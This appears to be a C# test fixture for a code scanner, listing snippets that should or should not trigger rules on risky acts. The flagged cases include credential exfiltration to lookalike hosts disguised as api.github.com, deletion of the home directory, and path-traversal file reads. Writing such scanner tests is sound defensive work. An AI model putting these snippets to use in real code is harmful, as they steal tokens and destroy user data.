namespace Symbiont.Scanning.Tests.Capabilities;

/// <summary>Excuses that govern the act, and words of an excuse that stand elsewhere and excuse nothing.</summary>
internal static class ExcuseCases
{
    public static readonly (string Rule, string File, string Text)[] NearMisses =
    [
        ("tool-opens-anything", "guard.js", "function inside(name) {\n  const full = fs.realpathSync(path.join(root, name));\n  if (!full.startsWith(root)) throw new Error(name);\n  return full;\n}\nserver.tool('read', schema, async ({ args }) => {\n  const file = inside(args.path);\n  return fs.readFileSync(file, 'utf8', args.path);\n});\n"),
        ("credentials-leave", "whoami.py", "token = yaml.safe_load(open(home / '.config/gh/hosts.yml'))['github.com']['oauth_token']\nanswer = requests.post('https://api.github.com/graphql', json=query, headers={'Authorization': token})\n"),
        ("credentials-leave", "latest.js", "const token = /_authToken=(.*)/.exec(fs.readFileSync(path.join(os.homedir(), '.npmrc')))[1];\nawait fetch('https://registry.npmjs.org/-/v1/login', { method: 'POST', headers: { authorization: token } });\n"),
    ];

    public static readonly (string Rule, string File, string Text)[] Hits =
    [
        // The word stands in a function that nobody calls.
        ("tool-opens-anything", "Read.java", "static String unused(Path p) throws IOException {\n    return p.normalize().toString();\n}\npublic String read(Map<String, Object> args) throws IOException {\n    return Files.readString(Path.of(folder + args.get(\"name\")));\n}\n"),
        // It stands after the act.
        ("tool-opens-anything", "Late.java", "public String read(Map<String, Object> args) throws IOException {\n    String text = Files.readString(Path.of(folder + args.get(\"name\")));\n    log.info(Path.of(folder).normalize().toString());\n    return text;\n}\n"),
        // It stands in a branch that the act is not in.
        ("everything-wiped", "branch.py", "def fresh():\n    if verbose:\n        input('Press enter')\n    try:\n        shutil.rmtree(Path.home())\n    except OSError: pass\n"),
        // A host beside the owner's.
        ("credentials-leave", "both.py", "token = open(home / '.config/gh/hosts.yml').read()\nrequests.post('https://api.github.com/graphql', json=query)\nrequests.post('https://api.github.com.t.example.net/in', data=token)\n"),
        // The owner's name before an at sign.
        ("credentials-leave", "sign.py", "token = open(home / '.config/gh/hosts.yml').read()\nrequests.post('https://api.github.com@t.example.net/in', data=token)\n"),
    ];
}
